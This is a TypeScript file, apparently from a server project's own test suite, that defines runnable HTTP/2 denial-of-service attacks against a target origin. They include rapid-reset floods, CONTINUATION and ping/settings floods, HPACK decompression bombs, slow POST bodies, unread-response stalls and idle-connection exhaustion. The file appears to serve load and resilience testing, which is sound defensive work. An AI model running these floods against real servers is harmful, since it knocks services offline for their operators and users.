import { setTimeout as pause } from 'node:timers/promises';
import tls from 'node:tls';
import {
  createFrameListener,
  END_HEADERS,
  END_STREAM,
  encodeFrame,
  encodeHeader,
  encodePreface,
  encodeRequestHeaders,
  encodeResetFrame,
} from '#server/testing/http2-frames.ts';
import type { Attack, ResponseCounts } from './http1-attacks.ts';

/** Returns the IDs of the first `count` HTTP/2 streams of a connection. Streams that a client opens have odd IDs. */
const listStreamIds = (count: number) => Array.from({ length: count }, (_, at) => 2 * at + 1);

/** Attacks over HTTP/2, which send many requests or frames over each connection. */
export const HTTP2_ATTACKS: readonly Attack[] = [
  {
    name: 'immediately canceled requests, 5,000 on each of 20 connections',
    run: floodConnections(20, (host) =>
      listStreamIds(5000).flatMap((stream) => [
        encodeRequestHeaders(stream, { host, path: '/articles?q=word' }),
        encodeResetFrame(stream),
      ]),
    ),
  },
  {
    name: 'unfinished requests, 5,000 on each of 60 connections',
    run: floodConnections(60, (host) =>
      listStreamIds(5000).map((stream) => encodeRequestHeaders(stream, { host, path: '/about' })),
    ),
  },
  {
    name: 'unfinished headers, on each of 20 connections',
    run: floodConnections(20, () => [
      encodeFrame('headers', 0, 1, encodeHeader('x-first', 'x')),
      ...Array.from({ length: 2000 }, () =>
        encodeFrame('continuation', 0, 1, encodeHeader('x-more', 'x'.repeat(1000))),
      ),
    ]),
  },
  {
    name: 'headers that decompress to 4,000 times their size, on each of 20 connections',
    run: floodConnections(20, () =>
      listStreamIds(200).map((stream) => {
        // Each request adds a large header to the connection's HPACK table. Each of the request's further references to
        // the header takes only one byte.
        const indexedHeader = Buffer.concat([
          Buffer.from([0x40]),
          encodeHeader('x-large', 'x'.repeat(4000)).subarray(1),
        ]);
        const references = Buffer.alloc(12_000, 0xbe);
        return encodeFrame(
          'headers',
          END_STREAM | END_HEADERS,
          stream,
          Buffer.concat([indexedHeader, references]),
        );
      }),
    ),
  },
  {
    name: 'pings, on each of 20 connections',
    run: floodConnections(20, () =>
      Array.from({ length: 50_000 }, () => encodeFrame('ping', 0, 0, Buffer.alloc(8))),
    ),
  },
  {
    name: 'settings, on each of 20 connections',
    run: floodConnections(20, () =>
      Array.from({ length: 50_000 }, () => encodeFrame('settings', 0, 0)),
    ),
  },
  {
    name: 'empty data frames of a request body, on each of 20 connections',
    run: floodConnections(20, (host) => [
      encodeRequestHeaders(1, {
        host,
        path: '/api/v1/errors',
        method: 'POST',
        headers: { 'content-type': 'application/json' },
      }),
      ...Array.from({ length: 50_000 }, () => encodeFrame('data', 0, 1)),
    ]),
  },
  { name: 'unread responses, 32 on each of 200 connections', run: leaveUnread(200, '/articles') },
  {
    name: 'unread responses with the OpenAPI document, 32 on each of 64 connections',
    run: leaveUnread(64, '/api/v1/openapi.json'),
  },
  { name: 'unfinished request bodies, 32 on each of 100 connections', run: sendSlowBodies(100) },
  { name: 'idle connections, 3,000', run: keepIdle(3000) },
];

/** Returns an attack that writes the frames from `createFrames` to each connection, disconnects, and repeats this. */
function floodConnections(
  connections: number,
  createFrames: (host: string) => Buffer[],
): Attack['run'] {
  return async (origin, milliseconds) => {
    const outcome: ResponseCounts = {};
    const flood = Buffer.concat([encodePreface(), ...createFrames(origin.host)]);
    const deadline = performance.now() + milliseconds;
    while (performance.now() < deadline) {
      const sockets = Array.from({ length: connections }, () => connect(origin, outcome));
      for (const socket of sockets) socket.write(flood);
      await pause(Math.min(1000, milliseconds));
      for (const socket of sockets) socket.destroy();
    }
    return outcome;
  };
}

/**
 * Returns an attack that sends the maximum number of concurrent requests over each connection, does not read the
 * responses, and keeps the connections open.
 */
function leaveUnread(connections: number, path: string): Attack['run'] {
  return holdConnections(
    connections,
    (host) => [
      encodePreface({ window: 0 }),
      ...listStreamIds(32).map((stream) => encodeRequestHeaders(stream, { host, path })),
    ],
    () => [encodeFrame('ping', 0, 0, Buffer.alloc(8))],
  );
}

/**
 * Returns an attack that begins to send the maximum number of request bodies over each connection. It then sends one
 * more character of each body from time to time (slow POST).
 */
function sendSlowBodies(connections: number): Attack['run'] {
  return holdConnections(
    connections,
    (host) => [
      encodePreface(),
      ...listStreamIds(32).map((stream) =>
        encodeRequestHeaders(stream, {
          host,
          path: '/api/v1/errors',
          method: 'POST',
          headers: { 'content-type': 'application/json' },
        }),
      ),
    ],
    () => listStreamIds(32).map((stream) => encodeFrame('data', 0, stream, Buffer.from(' '))),
  );
}

function keepIdle(connections: number): Attack['run'] {
  return holdConnections(
    connections,
    () => [encodePreface()],
    () => [encodeFrame('ping', 0, 0, Buffer.alloc(8))],
  );
}

/**
 * Returns an attack that keeps several connections open. On each connection, it sends the frames from
 * `createFirstFrames` once, and the frames from `createNextFrames` twice a second.
 */
function holdConnections(
  connections: number,
  createFirstFrames: (host: string) => Buffer[],
  createNextFrames: () => Buffer[],
): Attack['run'] {
  return async (origin, milliseconds) => {
    const outcome: ResponseCounts = {};
    const sockets = Array.from({ length: connections }, () => connect(origin, outcome));
    for (const socket of sockets) socket.write(Buffer.concat(createFirstFrames(origin.host)));
    const deadline = performance.now() + milliseconds;
    while (performance.now() < deadline) {
      await pause(500);
      for (const socket of sockets)
        if (socket.writable) socket.write(Buffer.concat(createNextFrames()));
    }
    for (const socket of sockets) socket.destroy();
    return outcome;
  };
}

/** Opens a TLS connection. Counts the received HTTP/2 frames in `outcome`, by type. */
function connect(origin: URL, outcome: ResponseCounts): tls.TLSSocket {
  const socket = tls.connect({
    port: Number(origin.port),
    host: origin.hostname,
    ALPNProtocols: ['h2'],
    rejectUnauthorized: false,
  });
  const count = (event: string) => {
    outcome[event] = (outcome[event] ?? 0) + 1;
  };
  let isClosedByAttacker = false;
  socket.on('data', createFrameListener(count));
  socket.on('error', () => {});
  socket.once('close', () => {
    if (!isClosedByAttacker) count('cut');
  });
  const destroy = socket.destroy.bind(socket);
  socket.destroy = (error) => {
    isClosedByAttacker = true;
    return destroy(error);
  };
  return socket;
}
